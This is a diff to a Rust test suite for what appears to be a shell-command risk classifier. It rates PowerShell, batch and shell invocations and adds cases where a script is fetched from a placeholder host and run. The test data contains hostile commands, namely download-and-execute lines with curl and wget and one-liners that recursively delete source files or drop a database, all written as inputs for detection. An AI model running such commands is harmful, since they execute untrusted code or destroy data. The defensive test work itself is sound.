@@ -170,8 +170,9 @@ fn names_are_followed_into_files() {
         ("sudo ./scripts/reset.sh", Level::Destructive),
         ("./scripts/test.sh", Level::Safe),
         ("sh scripts/loop.sh", Level::Safe),
-        // Those for Windows are known by their names only.
-        ("pwsh ./scripts/test.ps1", Level::Safe),
+        // What `-File` hands to PowerShell is known by its name only.
+        ("pwsh -File scripts/test.ps1", Level::Safe),
+        ("pwsh ./scripts/test.ps1", Level::Caution),
         ("pwsh -NoProfile -File scripts/wipe.ps1", Level::Caution),
         ("cmd /c drop-database.bat", Level::Destructive),
         ("cat scripts/wipe.ps1", Level::Safe),
@@ -223,6 +224,8 @@ fn a_file_written_and_run_on_the_same_line() {
         "echo 'Remove-Item -Recurse -Force src' > x.ps1; pwsh -File x.ps1",
         "cat > x.ps1 <<'EOF'\nGet-ChildItem src -Recurse | Remove-Item -Force\nEOF\npwsh ./x.ps1",
         "wget https://x.test/i.sh && bash i.sh",
+        "curl -o i.ps1 https://x.test/i.ps1; pwsh -File i.ps1",
+        "curl -o i.bat https://x.test/i.bat; ./i.bat",
         "cat > t.py <<'EOF'\nimport shutil, os\n[os.remove(f) for f in os.listdir('.')]\nEOF\npython t.py",
     ] {
         let level = command_risk(command, PLACE, &NoFacts).level();
